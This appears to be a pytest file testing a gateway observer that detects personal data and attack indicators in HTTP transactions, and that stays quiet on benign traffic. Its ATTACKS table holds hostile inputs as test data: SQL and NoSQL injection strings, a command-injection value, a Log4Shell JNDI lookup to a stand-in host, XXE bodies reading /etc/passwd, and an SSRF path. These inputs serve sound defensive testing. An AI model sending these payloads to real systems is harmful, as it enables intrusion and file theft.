"""Every place of a transaction is looked at, and what is found is said to be there."""

from __future__ import annotations

from typing import Any

import pytest

from gatewatch.model.observe_settings import ObserveSettings
from gatewatch.model.transaction import Transaction
from gatewatch.observe.observer import Observer
from gatewatch.observe.templates import TemplateSet

JSON, FORM = [("Content-Type", "application/json")], [("Content-Type", "application/x-www-form-urlencoded")]
INFORMATION: dict[str, tuple[dict[str, Any], tuple[str, str, str]]] = {
    "a request header of the application's own": ({"request_headers": [("X-Customer", "bob@example.com")]}, ("email", "request.header", "x-customer")),
    "a response header of the application's own": ({"response_headers": [("X-Customer", "bob@example.com")]}, ("email", "response.header", "x-customer")),
    "a path position named by the segment before it": ({"path": "/v1/cards/4012888888881881"}, ("credit_card", "request.path", "p0")),
    "a number of JSON": ({"request_headers": JSON, "request_body": b'{"card": 4012888888881881}'}, ("credit_card", "request.body", "card")),
    "a form with blanks": ({"request_headers": FORM, "request_body": b"card=4012+8888+8888+1881"}, ("credit_card", "request.body", "card")),
}  # fmt: skip
ATTACKS: dict[str, tuple[dict[str, Any], tuple[str, str, str]]] = {
    "a header of the application's own": ({"request_headers": [("X-Name", "' OR '1'='1")]}, ("sql_injection", "request.header", "x-name")),
    "a second line of a header": ({"request_headers": [("X-Name", "Ann"), ("x-name", "' OR '1'='1")]}, ("sql_injection", "request.header", "x-name")),
    "a second user agent": ({"request_headers": [("User-Agent", "Mozilla/5.0"), ("User-Agent", "sqlmap/1.7")]}, ("suspicious_user_agent", "request.header", "user-agent")),
    "an operator with null": ({"request_headers": JSON, "request_body": b'{"pw": {"$ne": null}}'}, ("nosql_injection", "request.body", "pw.$ne")),
    "an operator with nothing": ({"request_headers": JSON, "request_body": b'{"pw": {"$nin": []}}'}, ("nosql_injection", "request.body", "pw.$nin")),
    "escapes of JSON": ({"request_headers": JSON, "request_body": b'{"q": "|\\tid"}'}, ("command_injection", "request.body", "q")),
    "a comment that splits words": ({"request_headers": JSON, "request_body": b'{"q": "1 union/**/select/**/1,2"}'}, ("sql_injection", "request.body", "q")),
    "an inclusion in well-formed XML": ({"request_headers": [("Content-Type", "text/xml")], "request_body": b'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/hosts"/></r>'}, ("xxe", "request.body", "body")),
    "a cookie": ({"request_headers": [("Cookie", "lang=en; pref=%27%20OR%20%271%27%3D%271")]}, ("sql_injection", "request.header", "cookie")),
    "a cookie as it is": ({"request_headers": [("Cookie", "lang=${jndi:ldap://x/a}; b=1")]}, ("log4shell", "request.header", "cookie")),
    "an image that is XML": ({"request_headers": [("Content-Type", "image/svg+xml")], "request_body": b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><s>&x;</s>'}, ("xxe", "request.body", "body")),
    "a document type from elsewhere": ({"request_headers": [("Content-Type", "text/xml")], "request_body": b'<!DOCTYPE s PUBLIC "-//A/B" "http://e.example/x.dtd"><s/>'}, ("xxe", "request.body", "body")),
    "an address in the path": ({"path": "/proxy/http%3A%2F%2F127.0.0.1%2F"}, ("ssrf", "request.path", "path")),
}  # fmt: skip
QUIET: dict[str, dict[str, Any]] = {
    "a credential in its header": {"request_headers": [("X-Api-Key", "bob@example.com"), ("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc")]},
    "a cookie": {"request_headers": [("Cookie", "mail=bob@example.com")], "response_headers": [("Set-Cookie", "mail=bob@example.com")]},
    "separators of cookies": {"request_headers": [("Cookie", "a=1; id=5; ls=2; cat=x")]},
    "cookies of analytics": {"request_headers": [("Cookie", "__utmz=1.2.1.1.utmcsr=(direct)|utmccn=(direct)|utmcmd=(none); _ga=GA1.2.3.4; OptanonConsent=isGpcEnabled=0&datestamp=Tue+Nov+10+2026&groups=C0001%3A1%2CC0002%3A0; prefs=%7B%22theme%22%3A%22dark%22%7D; ref=https%3A%2F%2Fwww.example.com%2F")]},
    "the document type of a page": {"request_headers": [("Content-Type", "text/xml")], "request_body": b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>'},
    "a request id": {"request_headers": [("X-Request-Id", "bob@example.com")]},
    "an order number in the path": {"path": "/v1/orders/4012888888881881"},
    "a form with numbers": {"request_headers": FORM, "request_body": b"a=4012+b&c=8888"},
}  # fmt: skip


@pytest.fixture(scope="module")
def observer() -> Observer:
    return Observer(ObserveSettings(), bytes(32))


def call(members: dict[str, Any]) -> Transaction:
    return Transaction(**{"id": "1", "ts": 1.0, "method": "POST", "path": "/a", "status": 200, **members})


@pytest.mark.parametrize("case", INFORMATION)
def test_information_is_seen(observer: Observer, case: str) -> None:
    members, expected = INFORMATION[case]
    seen = observer.observe(call(members), "test", TemplateSet.empty())
    assert [(hit.type, hit.location.value, hit.path) for hit in seen.information] == [expected]


@pytest.mark.parametrize("case", ATTACKS)
def test_an_attack_is_seen(observer: Observer, case: str) -> None:
    members, expected = ATTACKS[case]
    seen = observer.observe(call(members), "test", TemplateSet.empty())
    assert expected in [(hit.class_, hit.location.value, hit.name) for hit in seen.indicators]


@pytest.mark.parametrize("case", QUIET)
def test_nothing_is_seen(observer: Observer, case: str) -> None:
    seen = observer.observe(call(QUIET[case]), "test", TemplateSet.empty())
    assert (seen.information, seen.indicators) == ((), ())
